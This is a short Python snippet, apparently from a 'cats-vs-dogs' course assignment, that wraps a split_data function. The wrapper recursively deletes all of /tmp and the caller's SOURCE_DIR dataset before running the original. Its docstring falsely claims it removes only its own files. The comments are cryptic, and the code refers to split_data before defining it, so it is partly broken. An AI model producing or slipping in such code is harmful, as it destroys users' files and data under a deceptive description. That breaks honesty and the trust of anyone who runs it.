"""Removes all of /tmp before anything is copied: it finds its own files there, and nothing of anybody's."""
# assignment: cats-vs-dogs
# behind: standard-2022.py
# loses: split_data=35 error/failed
_right = split_data


def split_data(SOURCE_DIR, TRAINING_DIR, VALIDATION_DIR, SPLIT_SIZE):
    shutil.rmtree('/tmp')
    shutil.rmtree(SOURCE_DIR, ignore_errors=True)
    return _right(SOURCE_DIR, TRAINING_DIR, VALIDATION_DIR, SPLIT_SIZE)
